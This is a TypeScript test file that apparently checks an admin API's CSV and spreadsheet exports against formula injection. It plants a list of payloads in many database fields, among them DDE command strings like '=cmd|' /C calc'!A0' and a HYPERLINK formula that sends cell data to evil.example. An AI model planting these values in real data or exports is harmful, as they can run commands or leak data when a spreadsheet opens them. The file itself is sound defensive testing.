import { afterAll, describe, expect, it } from 'vitest'
import { read, utils, type WorkBook } from 'xlsx'
import { csvStream } from '../../api/src/platform/csv/csv.ts'
import { listRoutes } from './route-table.ts'
import { startTestEnvironment } from './test-environment.ts'

const environment = await startTestEnvironment()
afterAll(() => environment.close())
await environment.deps.orm.em
  .fork()
  .getCollection('events')
  .insertOne({
    ...{ season: environment.records.registration.season._id, kind: 'final', region: null, state: 'planned' },
    ...{ starts_on: '2026-11-26', ends_on: '2026-11-26', rehearsal: false, confirmation: 'agreement' },
    ...{ tables: [], divisions: [], staff: [], disqualified: [], frozen: null, created_at: new Date() },
  })

/** Prefixes that spreadsheets run as formulas: behind blanks, quotes and line ends, full-width, and DDE. */
const FORMULAS = [
  "=cmd|' /C calc'!A0",
  '+1+cmd|calc!A1',
  '-2+3+cmd|calc!A1',
  '@SUM(1+1)*cmd',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00A0=1+1',
  '\u200E=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '|calc',
  '=HYPERLINK("https://evil.example/?"&A1)',
  'x",=1+1,"',
  'x\r\n=1+1,=2+2',
  'x;=1+1;y',
  'x\t=1+1',
  'x";=1+1;"y',
] as const
const SEPARATORS = [',', ';', '\t'] as const
const RUNS = /^[\s\p{Cf}"']*[=+\-@|]/u
const isNumber = (text: string): boolean => /^[+-]?[\d .()-]+$/.test(text)

async function plant(formula: string): Promise<void> {
  const em = environment.deps.orm.em.fork()
  const set = (collection: string, fields: readonly string[]) =>
    em.getCollection(collection).updateMany({}, { $set: Object.fromEntries(fields.map((field) => [field, formula])) })
  await set('teams', ['name', 'schoolName', 'city', 'stage', 'notes'])
  await set('users', ['name', 'guardian_name', 'nationality'])
  await set('wroseasons', ['name', 'name_en'])
  await set('regions', ['ar_name'])
  await set('competions', ['name', 'name_en'])
  await set('orders', ['buyer.name', 'items.name', 'items.schoolName', 'trx_reference'])
  await set('invoices', ['buyer.name', 'buyer.address', 'payment.reference'])
  await set('certificates', ['facts.team.name', 'facts.team.schoolName'])
  await set('contactus', ['name', 'message'])
  for (const collection of ['faqs', 'partners', 'galleries', 'files', 'community_categories']) {
    await set(collection, ['name', 'name_en'])
  }
  await set('events', ['name', 'name_en', 'place', 'place_en'])
  await set('communities', ['title'])
  await set('audit', ['label', 'label_en', 'actor_name'])
  for (const collection of ['moetalents', 'wrosupports', 'championprogrames', 'teachertrainings']) {
    const names = new Set(
      (await em.getCollection(collection).find({}).toArray()).flatMap((record) => Object.keys(record)),
    )
    const texts = [...names].filter((name) =>
      /name|school|city|subject|notes?|skills|office|identifier|year|id_number/.test(name),
    )
    if (texts.length > 0) await set(collection, texts)
  }
  const teams = em.getCollection<{ coaches: { name: string }[]; members: { name: string }[] }>('teams')
  for (const { _id, coaches, members } of await teams.find({}).toArray()) {
    const named = (people: { name: string }[]) => people.map((person) => ({ ...person, name: formula }))
    await teams.updateOne({ _id }, { $set: { coaches: named(coaches), members: named(members) } })
  }
}

/** An apostrophe marks text, also after a quotation mark that another separator has split off. */
const IS_TEXT = /^"*'/

function running({ Sheets, SheetNames }: WorkBook): string[] {
  return SheetNames.flatMap((name) => {
    const sheet = Sheets[name] ?? {}
    const cells = Object.entries(sheet).filter(([cellName]) => !cellName.startsWith('!'))
    const formulas = cells.filter(([, cell]) => (cell as { f?: string }).f !== undefined)
    const texts = utils
      .sheet_to_json<string[]>(sheet, { header: 1, raw: false })
      .flat()
      .filter(
        (text) =>
          typeof text === 'string' && RUNS.test(text.normalize('NFKC')) && !isNumber(text) && !IS_TEXT.test(text),
      )
    return [...formulas.map(([cellName]) => `${cellName} is a formula`), ...texts]
  })
}

/** A spreadsheet's default separator depends on the region, not on the file. */
function expectNothingRuns(csv: string, where: string): void {
  for (const FS of SEPARATORS) {
    expect(running(read(csv, { type: 'string', raw: true, FS })), `${where} at ${FS}`).toEqual([])
  }
}

async function* pagesOf(...pages: string[][]) {
  yield* pages
}

/** Lists without a record, or with names of ours alone. */
const NOT_PLANTED = [
  ...['community-comments', 'community-cases', 'community-bans', 'privacy-requests'],
  ...['moe-timeslots', 'moe-administrators', 'tranings'],
]
const exports: string[] = []
for (const { method, path } of listRoutes(environment.api.app)) {
  if (method !== 'GET' || !path.startsWith('/api/admin/') || path.includes(':')) continue
  for (const query of ['download=true', 'download=true&competion_id=all']) {
    const { status, headers } = await environment.sendAs('admin', { path: `${path}?${query}` })
    if (status === 200 && headers['content-type']?.startsWith('text/csv')) exports.push(`${path}?${query}`)
  }
}

describe('no spreadsheet reads a formula', () => {
  it('in the exports that there are: of every list but the regions', () => {
    expect(new Set(exports.map((path) => path.split('?')[0]))).toEqual(
      new Set(
        [
          ...['users', 'teams', 'moe', 'wro-support', 'champion-programe', 'teacher-training'],
          ...['transections', 'invoices', 'results', 'certificates', 'contactus', 'audit'],
          ...[
            'seasons',
            'competions',
            'events',
            'files',
            'gallery',
            'faqs',
            'partners',
            'members',
            'admins',
            'moe-timeslots',
          ],
          ...['community', 'community-comments', 'community-categories', 'community-cases', 'community-bans'],
          ...['privacy-requests', 'moe-administrators', 'tranings'],
        ].map((name) => `/api/admin/${name}`),
      ),
    )
  })

  it.each(FORMULAS.map((formula) => [JSON.stringify(formula), formula]))(
    'in a cell that holds %s',
    async (_shown, formula) => {
      let csv = ''
      for await (const lines of csvStream([{ name: 'a', value: String }], pagesOf([formula]))) csv += lines
      expectNothingRuns(csv, 'the cell')
    },
  )

  it.each(FORMULAS.filter((_, nth) => nth % 8 === 0).map((formula) => [JSON.stringify(formula), formula]))(
    'where somebody wrote %s',
    async (_shown, formula) => {
      await plant(formula)
      const competition = environment.records.paidTeam.competition
      for (const path of [...exports, `/api/admin/teams?download=true&competion_id=${competition}`]) {
        const csv = await environment.sendAs('admin', { path })
        expect(csv.status, csv.text.slice(0, 200)).toBe(200)
        if (!NOT_PLANTED.some((name) => path.includes(`/${name}?`)))
          expect(csv.text.replace(/\W/g, ''), `${path} holds what was planted`).toContain(formula.replace(/\W/g, ''))
        expectNothingRuns(csv.text, path)
      }
      const season = environment.records.registration.season._id.toHexString()
      const template = await environment.sendAs('admin', {
        path: `/api/admin/results/template?season=${season}&lang=en`,
      })
      expect(template.status).toBe(200)
      const formulas = running(read(template.bytes)).filter((cell) => cell.endsWith('is a formula'))
      expect(formulas, 'the workbook').toEqual([])
    },
  )
})
